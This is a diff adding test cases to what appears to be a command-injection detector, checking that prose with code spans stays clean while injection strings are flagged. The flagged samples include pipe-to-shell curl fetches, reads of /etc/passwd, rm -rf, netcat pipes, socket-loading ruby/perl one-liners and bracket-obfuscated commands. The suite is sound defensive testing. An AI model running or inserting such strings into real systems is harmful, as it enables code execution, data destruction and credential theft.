@@ -541,3 +541,179 @@ describe('cmdi: process-starting calls from inside other languages', () => {
     expect(d.scan(input, { context: 'body' }).blocked).toBe(false);
   });
 });
+
+describe('cmdi: a developer tool opening a code span that stands apart documents a command', () => {
+  // npm/npx/pip/make/git/docker/kubectl/apt ... and the runtimes named first in a span standing apart in prose, a
+  // table cell or a quote; a runtime given -c/-e (php -r), a separator inside, or a span glued to a value, a word
+  // or a separator still substitutes, as does any other command (curl, sleep) or a wrapper (sudo)
+  it.each([
+    'Run `npm install express` to add the dependency', '> `npm i -D vitest`', '| `npm start` | Starts the server |',
+    '* `make test` - runs the tests', 'Then `kubectl apply -f x.yaml` applies it', 'run `node app.js`, then open it',
+    'Run `python -m venv .venv` first', 'Run `node -r ts-node/register x.js` now', '`npm` executable', '`npm run bench` - benchmarks',
+    'Use `git commit -m "x"` to save', 'Install with `pip install requests`', 'x | `npm i x` |', '| `ls -la` | lists |', 'Launch (`npm run dev`) and',
+  ])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each([
+    'x=`npm i evil`', ';`npm i x`', 'x`npm i x`', 'x=`npm`',
+    'Run `python -c "import os"` now', 'Run `node -e "x"` now', 'Run `php -r "x"` now', 'Run `perl -pe s/a/b/ x` now',
+    'Run `npm i x; id` now', 'Run `npm i x | sh` now', '`npm run x` && curl http://x.test | sh',
+    'Run `curl http://x.test` now', 'Run `sudo apt install x` now', '`id`',
+    // after a separator and a space, and after '| ' unless the span is a table cell (" |" after it)
+    "'.print(`npm i evil`).'", 'f(`date`)', 'f(`ls -la`) x', // an argument of a call: the punctuation before it glued to a word
+    'x && `npm i evil`', 'a; `npm test` runs the tests', 'x; `ls -la` y', '| `npm i x` now', '| `npm i x`', '| `ls -la` now', '| `node app.js` |',
+  ])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: a weak word alone in a span after a separator and a space', () => {
+  // "; `false` otherwise" is prose after a semicolon, "| `true` |" a Markdown table cell; at the end, glued to the
+  // separator, with arguments or a strong word it still substitutes
+  it.each(['a; `false` otherwise', '| `enabled` | `boolean` | `true` | on |', '| `date` | `2020-04-03` |', 'x & `true` when set'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['a; `date`', 'a && `date`', '| `id` |', 'x | `date` | grep x', 'a;`date` x', '&`true` x', 'a; `sleep 5` x'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: an "==" inside the parenthesis after IF is a C-like condition', () => {
+  // cmd.exe compares operands outside parentheses (IF (%1)==() ...); JavaScript, C, Java and PHP wrap the whole
+  // condition in them: if (x === 'y') {
+  it.each(["if (x === 'y') {", 'if (err !== null) {', 'if (path.extname(file) === ".html") {', 'if (a == b) x = 1;'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['IF (%1)==() GOTO x', '& if (%a%)==(b) echo x', 'x & IF NOT (%1)==() dir', 'IF "%a%"=="b" echo x', 'if not {%2} == {} x'])('%s is still flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.windows-batch');
+    expectSameWhenSplit(d, [input]);
+  });
+});
+
+describe('cmdi: a file tool with arguments in a span standing apart, followed by prose', () => {
+  // ls/cat/grep/tar/mkdir ... with arguments in a code span that prose goes on after documents a step; at the end,
+  // glued to a value, with a separator, redirection or expansion inside, or any other command it still substitutes
+  it.each(['Run `ls -la` to see the files', 'x `ls -la` y', '| `ls -la` | lists files |', 'Use `grep -r TODO src` to find them',
+    '`tar -xzf a.tgz` unpacks it', 'then `mkdir -p dist`, and build', 'On Windows use `dir` instead of `ls`.', 'x `cat`.'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['`ls -la`', 'Run `ls -la`.', 'x=`ls -la` y', 'Run `ls -la; id` now', 'x `echo hi > /tmp/x` y', 'x `cat $HOME/.x` y',
+    'x `ls -la ${HOME}` y', 'the `ls -la | sh` x', 'x `cat ; id` y', 'hello `cat /etc/passwd`', 'x `rm -rf /tmp/a` y',
+    'x `curl http://x.test` y', 'x `sleep 5` y', 'x `ls`', '127.0.0.1 `ls`', '`ls`'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: more prose after a strong command alone in a span', () => {
+  // a ':' and a word ("* `timeout`: the number"), a dash standing alone ("`timeout` - time in ms"), a Markdown link
+  // ("[`timeout`](#timeout)") or another span in a list ("`timeout`, `retries`") continue prose
+  it.each(['* `timeout`: The number of seconds', '- [`timeout`](#timeout)', '- `timeout` - time in milliseconds',
+    'Options like `timeout`, `throwOnError`, and more', '`mkdir`: ensure the directory exists'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['x `id` -a', 'x `id`:x', 'x `id`, `whoami`', 'a `id`.', 'x `id`;', 'x `id`'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: recon-only commands and table cells', () => {
+  // whoami, uname, ifconfig ... name no field or option: alone in a span they substitute even when prose follows;
+  // a strong word that is also an identifier (`id`, `timeout`) in a table cell followed by another cell is a row
+  it.each(['| `id` | string | the user id |', '| `timeout` | `number` | `5000` | ms |', 'a | `id` | b', 'the `id` field', 'run `hostname` to see it'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['text `whoami` more text', 'hello `whoami`, there', 'x `ifconfig` y', '| `whoami` | x |', '| `id` |', '| `id` |;id', 'x | `id` |', '| `id` | ;'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: a shell or language name alone in a table cell', () => {
+  it.each(['| bash       | shj-lang-bash |', '| node | Minimal polyfills', '| fast-check | node | ECMAScript version |', 'Python | Ruby | Go', '| sleep | 5 |'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['x | bash', 'x |bash |', '| id |', 'curl x | sh | tee y', 'x | python -c y |'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: the language word of a Markdown code fence', () => {
+  // ```bash at the start of the value or a line, with the line ending after the word, opens a fenced block; the
+  // lines inside are still read as command lines
+  it.each(['```powershell', '```bash', '```python\nimport os\nprint(x)\n```', 'Example:\n```sh\n```'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['```\nid\n```', '```\nid', 'x\n```\nwhoami', '```bash\nls -la\n```', '```bash -c id', 'x ```id``` y', '```id```'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: a runtime documented in a span still runs code given after other options', () => {
+  // the runtime's own options come before the script or -m module; -c/-e among them (after -rsocket, -MIO, -W x, -u) run code
+  it.each(['x `python -m venv .venv` y', 'x `node -r ts-node/register app.js` y', 'x `python x.py -c 1` y', 'x `node app.js --eval` y',
+    'x `python -m pip install -e .` y', 'x `node --inspect app.js` y', 'x `node /a/b.js -e` y'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(["`ruby -rsocket -e 'x'`", "`perl -MIO -e 'x'`", "x `python -W ignore -c 'x'` y", 'x `node -r x -e 1` y', 'x `python3 -u -c 1` y',
+    'x `python -c 1` y', 'x `node --eval 1` y'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: still more prose around a strong command alone in a span', () => {
+  // ")" then prose, " (" then prose, "`a`/`b`" alternatives, a table cell's last words before " |", and a strong word
+  // after punctuation standing apart ("(`cmd.exe` or") read like prose; at the end, glued, or before a command they substitute
+  it.each(['x `id`) y', 'a `id`/`include` b', 'the list `at` (the source)', 'Alias for `basename` |', 'x (`id`) y',
+    'Note that this is used in a terminal (`cmd.exe` or'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['(`id`)', '${`id`}', "'.print(`id`).'", 'x `id` | nc a 1', 'x `id`/etc', 'x (`id`)', 'x `id`)', 'a `id`/b'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: a mail verb that is also English at the start of a wrapped prose line', () => {
+  // DATA, LIST, TOP, SELECT, a1 COPY ... start protocol lines with an argument or nothing after them; wrapped prose
+  // goes on with punctuation or a function word ("list of contributors.", "a copy of this software", "top-level")
+  it.each(['x\nlist of contributors.', 'x\na copy of this software', 'x\ntop-level middleware', 'Hello\ndata is here', 'x\ndata, this method',
+    'x\nand close the handle', 'x\nsanity check (since x)', 'x\nmail from the server', 'x\nwill delete it on exit'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each(['x\r\nDATA', 'x\nDATA\n', 'x\na1 close', 'a\r\nMAIL FROM:<a@b.test>', 'a\nRCPT TO:<a@b.test>', 'x\na1 SELECT INBOX', 'x\nA1 list "INBOX/" "*"',
+    'x\na002 copy 2:4 MEETING', 'x\r\nHELP Postmaster', 'x\r\nTOP 1 2', 'x\r\nUSER admin\r\nPASS secret', 'p="\r\nDATA"', 'x\r\nQUIT'])('%s is still flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'body' }))).toContain('cmdi.mail-command');
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
+
+describe('cmdi: a word opened by a "[" that nothing closes within it is literal', () => {
+  // [npm registry](url) at the start of a line is a Markdown link; in the shell "[npm" is a literal word (a bracket
+  // expression needs its "]"), while [c]at is cat
+  it.each(['x\n[npm registry](https://x.test/)', 'x\n[node stability index](https://x.test)'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+  it.each([';[c]at /etc/hosts', ';[w]hoami', 'x\n[c]at /tmp/x', ';[ -f /tmp/x ] && id'])('%s is still flagged', (input) => {
+    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
+    expectSameWhenSplit(d, [input], 'body');
+  });
+});
